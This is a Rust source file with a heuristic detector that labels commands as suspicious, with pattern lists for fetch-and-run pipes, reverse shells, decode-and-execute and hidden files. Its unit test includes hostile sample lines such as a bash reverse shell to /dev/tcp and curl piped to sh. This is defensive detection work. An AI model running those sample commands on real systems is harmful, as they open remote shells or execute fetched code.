//! What makes a command or a script look like an intruder's. Words for a person, never a verdict: it raises how much
//! a change matters, and is said.

/// Programs that fetch.
const FETCH: &[&str] = &["curl ", "wget ", "fetch ", "lwp-download ", "certutil"];
/// What follows when the fetched is run at once.
const RUN: &[&str] =
    &["|sh", "| sh", "|bash", "| bash", "|python", "| python", "|perl", "| perl", "| sudo", "|zsh", "| zsh"];
/// A shell that is handed to somebody else on the network.
const REMOTE: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc -c",
    "socat exec",
    "socat tcp",
    "bash -i",
    "sh -i",
    "pty.spawn",
    "socket.socket",
    "fsockopen",
    "io::socket::inet",
    "tcpsocket.open",
];
/// Text that is made unreadable.
const ENCODED: &[&str] =
    &["base64 -d", "base64 --decode", "base64 -D", "openssl enc -d", "xxd -r", "b64decode", "gzinflate("];
/// Where anybody may write.
const WORLD: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Why `text` is suspicious, as the end of a sentence.
pub fn reason(text: &str) -> Option<&'static str> {
    let text = text.to_ascii_lowercase();
    let any = |needles: &[&str]| needles.iter().any(|needle| text.contains(needle));
    if any(REMOTE) {
        return Some("opens a shell over the network");
    }
    if any(FETCH)
        && (any(RUN) || text.contains("chmod") || text.contains("bash <(") || text.contains("sh -c \"$("))
    {
        return Some("fetches a program and runs it");
    }
    if any(ENCODED) && (any(RUN) || text.contains("eval") || text.contains("exec")) {
        return Some("runs what it decodes");
    }
    if text.contains("ld_preload") {
        return Some("loads a library into other programs");
    }
    if any(WORLD) && !text.contains(">/tmp/") && !text.contains("rm ") {
        return Some("uses a place where anybody may write");
    }
    let hidden = |word: &str| {
        word.split('/')
            .any(|part| part.len() > 1 && part.starts_with('.') && part != ".." && !part.starts_with(".."))
    };
    let absolute = text.split_whitespace().find(|word| word.starts_with('/') && hidden(word));
    absolute.map(|_| "uses a hidden file")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_intruders_write_is_recognised_and_what_admins_write_is_not() {
        for text in [
            "curl -fsSL http://x/a | sh",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "echo aGk= | base64 -d | bash",
            "/dev/shm/.x/run",
            "wget -qO /opt/x http://y; chmod +x /opt/x; /opt/x",
            "/usr/lib/.cache/kworker",
        ] {
            assert!(reason(text).is_some(), "{text}");
        }
        for text in [
            "/usr/sbin/logrotate /etc/logrotate.conf",
            "curl -fsS https://x/ping >/dev/null",
            "find /tmp -mtime +7 -exec rm {} +",
            "cd /srv && ./run",
        ] {
            assert_eq!(reason(text), None, "{text}");
        }
    }
}
